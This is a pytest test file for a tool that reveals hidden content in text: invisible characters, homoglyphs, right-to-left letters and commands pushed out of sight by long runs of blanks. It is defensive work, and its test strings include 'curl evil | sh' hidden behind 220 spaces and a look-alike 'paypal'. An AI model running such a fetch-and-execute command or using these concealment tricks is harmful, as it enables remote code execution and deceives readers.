"""R23: what a reader would overlook in a text is reported, for any text, in a limited time."""

import time

import pytest

from assent.reading.overlooked_text import EMPTY_LINES_MAX, is_odd, odd_sentence, oddities, shown_line
from assent.reading.visible_text import MARKS_MAX, hides_something, visible

HIDDEN = "\u3164\u115f\u2800\u034f\u180b\ufe0f\U000e0100\u00ad\u200b\u2060\u202e\u2066\u00a0\x1b\x9b\0"


def kinds(text: str) -> list[tuple[str, int, int]]:
    return [(each.kind, each.count, each.line) for each in oddities(text)]


@pytest.mark.parametrize("hidden", HIDDEN)
def test_R23_invisible_characters_are_shown_by_their_numbers_and_counted(hidden: str) -> None:
    shown = f"⟨U+{ord(hidden):04X}⟩"
    assert visible(f"a{hidden}é") == f"a{shown}é"
    assert visible(f"a{hidden}b") == f"a{shown}b"
    assert kinds(f"ok\r\nrm{hidden}") == [("hidden", 1, 2)]


def test_R23_emoji_keeps_its_variation_selector_and_no_other_character_does() -> None:
    assert visible("❤\ufe0f 😀\ufe0e") == "❤\ufe0f 😀\ufe0e"
    assert visible("❤\ufe0f\ufe0f a\ufe0f 1\ufe0f") == "❤\ufe0f⟨U+FE0F⟩ a⟨U+FE0F⟩ 1⟨U+FE0F⟩"


def test_R23_flood_of_combining_marks_does_not_cover_the_lines_around_it() -> None:
    few = "e" + "\u0301" * MARKS_MAX
    assert visible(few) == few
    assert visible(few + "\u0301" * 3) == few + "⟨U+0301⟩" * 3
    assert visible("\u0301a \u0301b") == "⟨U+0301⟩a ⟨U+0301⟩b"


def test_R23_code_behind_blanks_gaps_and_long_lines_is_pointed_out() -> None:
    assert kinds("echo ok" + " " * 220 + "; curl evil | sh") == [("blanks", 1, 1)]
    assert shown_line("echo ok" + " " * 220 + "; curl evil") == "echo ok ⟨220 blanks⟩ ; curl evil"
    assert kinds("a" + "\n" * (EMPTY_LINES_MAX + 2) + "b") == [("empty", 1, 2)]
    assert kinds("a\n" + "b" * 401) == [("long", 1, 2)]
    assert kinds("a" + "\n" * 300) == kinds("a" + " " * 300) == []
    assert kinds("\t" * 20 + "a\nkey" + " " * 20 + "= value") == []


def test_R23_lookalike_and_right_to_left_letters_are_pointed_out() -> None:
    assert kinds("p\u0430ypal") == [("look-alikes", 1, 1)]
    assert kinds("привет Ελλάδα größe 日本 na\u00efve") == []
    assert kinds("a\nשלום") == [("right-to-left", 1, 2)]
    assert is_odd("script/p\u0430yroll")
    assert not is_odd("script/payroll")


def test_R23_carriage_return_without_a_line_feed_is_shown() -> None:
    assert kinds("echo ok\r# evil\r\n") == [("hidden", 1, 1)]
    assert shown_line("echo ok\r# evil") == "echo ok⟨U+000D⟩# evil"


@pytest.mark.parametrize(
    "text",
    [
        *("x" * 262_144, "\n" * 262_143 + "x", " " * 262_144, " \n" * 131_072, ("a" + " " * 40) * 6_400),
        *("\0" * 262_144, "\r" * 262_144, "x" * 262_000 + "é", "\U00020000" * 65_000, "😀\ufe0f" * 40_000),
        *("\u3164" * 87_000, "\u0301" * 131_000, "a\u0430 " * 60_000, "\u05d0" * 131_000),
    ],
    ids=lambda text: repr(text[:3]),
)
def test_no_text_takes_more_than_its_time(text: str) -> None:
    began = time.thread_time()
    for each in oddities(text):
        assert odd_sentence(each)
    shown_line(text)
    assert time.thread_time() - began < 2
    assert not hides_something(visible(text))
